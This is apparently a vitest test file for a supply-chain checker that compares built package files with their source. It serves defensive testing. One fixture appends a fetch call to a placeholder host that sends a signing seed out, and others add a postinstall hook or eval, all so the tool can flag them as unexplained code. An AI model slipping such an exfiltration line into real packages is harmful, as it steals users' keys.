import { describe, expect, test } from 'vitest';
import { artifactOf } from '../archive/artifactOf.ts';
import type { Artifact } from '../artifact.ts';
import { lowerJavaScript } from '../javascript/lowerJavaScript.ts';
import { textOf } from '../textOf.ts';
import { compareWithSource, type Lower } from './compareWithSource.ts';
import { sourceFindings } from './sourceFindings.ts';

const lower: Lower = (file) => (/\.[jt]s$/.test(file.path) ? lowerJavaScript(file.path, textOf(file)) : undefined);
const folder = (files: Readonly<Record<string, string>>): Artifact =>
  artifactOf(
    Object.entries(files).map(([path, text]) => ({ path, bytes: new TextEncoder().encode(text) })),
    { form: 'folder', ecosystem: 'npm' },
  );
const compare = (built: Readonly<Record<string, string>>, source: Readonly<Record<string, string>>) =>
  compareWithSource(folder(built), folder(source).files, lower);
const origins = (built: Readonly<Record<string, string>>, source: Readonly<Record<string, string>>): string[] =>
  compare(built, source).files.map((file) => `${file.path} ${file.is === 'explained' ? file.by : file.is}`);

const KEYS = `export function sign(seed: string, message: string) { return api.sign(seed, message, 'ed25519'); }\n`;
const MINIFIED = `var t;exports.sign=function(r,n){return t.sign(r,n,"ed25519")};`;

describe('a file is explained by', () => {
  test.each([
    ['the same bytes', { 'a.js': 'x()' }, { 'a.js': 'x()' }, 'a.js same'],
    ['the same bytes elsewhere', { 'lib/a.js': 'x()' }, { 'packages/one/lib/a.js': 'x()' }, 'lib/a.js same'],
    ['the same text with other line ends', { 'a.js': 'x()\r\ny()\r\n' }, { 'a.js': 'x()\ny()' }, 'a.js line-ends'],
    [
      'code whose every word stands in the source',
      { 'dist/a.js': MINIFIED },
      { 'src/a.ts': KEYS },
      'dist/a.js generated',
    ],
    [
      'a manifest that runs the same',
      { 'package.json': '{"name":"a","gitHead":"1"}' },
      { 'package.json': '{"name":"a","devDependencies":{}}' },
      'package.json manifest',
    ],
    ['metadata of the packer', { 'a.dist-info/METADATA': 'x' }, {}, 'a.dist-info/METADATA metadata'],
    ['a version file of constants', { 'a/_version.py': "__version__ = '1'\n" }, {}, 'a/_version.py version-file'],
    ['being no code', { 'a.js.map': '{}' }, {}, 'a.js.map not-code'],
  ])('%s', (_, built, source, origin) => {
    expect(origins(built, source)).toEqual([origin]);
  });
});

describe('what is not explained', () => {
  const theft = `${MINIFIED}fetch("https://collect.example.invalid/"+r);`;
  test.each([
    ['other text in the same place', { 'a.js': 'x(1, "new")' }, { 'a.js': 'x(1)' }, 'a.js differs'],
    [
      'other text under the root of the package',
      { 'k.py': 'x', 'b.py': 'y' },
      { 'src/k.py': 'x', 'src/b.py': 'z' },
      'b.py differs',
    ],
    ['built code that says more', { 'dist/a.js': theft }, { 'src/a.ts': KEYS }, 'dist/a.js added'],
    [
      'built code that only does more with words that stand there',
      { 'dist/a.js': 'eval(' },
      { 'src/a.ts': KEYS },
      'dist/a.js added',
    ],
    [
      'a manifest with an install hook',
      { 'package.json': '{"name":"a","scripts":{"postinstall":"node x"}}' },
      { 'package.json': '{"name":"a"}' },
      'package.json differs',
    ],
    [
      'entry points that the packer wrote',
      { 'a.dist-info/entry_points.txt': 'x' },
      {},
      'a.dist-info/entry_points.txt added',
    ],
    ['a version file that does something', { 'a/_version.py': '__version__ = get()\n' }, {}, 'a/_version.py added'],
    ['a binary', { 'a.node': 'ELF' }, {}, 'a.node added'],
  ])('%s', (_, built, source, origin) => {
    expect(origins(built, source)).toContain(origin);
  });

  test('is named by the words that the source lacks', () => {
    const [file] = compare({ 'dist/a.js': theft }, { 'src/a.ts': KEYS }).files;
    expect(file).toMatchObject({
      is: 'added',
      unexplained: expect.arrayContaining(['fetch', 'https://collect.example.invalid/']),
    });
  });
});

describe('the state', () => {
  const rules = (built: Readonly<Record<string, string>>, source: Readonly<Record<string, string>>): string[] =>
    sourceFindings(compare(built, source)).map(({ rule, decision }) => `${rule} ${decision}`);

  test('is a match where everything is explained', () => {
    expect(compare({ 'a.js': 'x()' }, { 'a.js': 'x()', 'more.js': '' }).state).toBe('match');
    expect(rules({ 'a.js': 'x()' }, { 'a.js': 'x()' })).toEqual([]);
  });

  test('is no source where nothing is shared', () => {
    expect(rules({ 'a.js': 'x()' }, { 'b.js': 'y()' })).toEqual(['source.none review']);
  });

  test('is a mismatch otherwise: code is held, other files are read', () => {
    expect(rules({ 'a.js': 'x()', 'b.js': 'y("new")' }, { 'a.js': 'x()' })).toEqual(['source.added-code hold']);
    expect(rules({ 'a.js': 'x()', 'b.bin': 'y' }, { 'a.js': 'x()' })).toEqual(['source.added-file review']);
    expect(rules({ 'a.js': 'x()', 'b.js': 'y("new")' }, { 'a.js': 'x()', 'b.js': 'z()' })).toEqual([
      'source.differs hold',
    ]);
  });
});
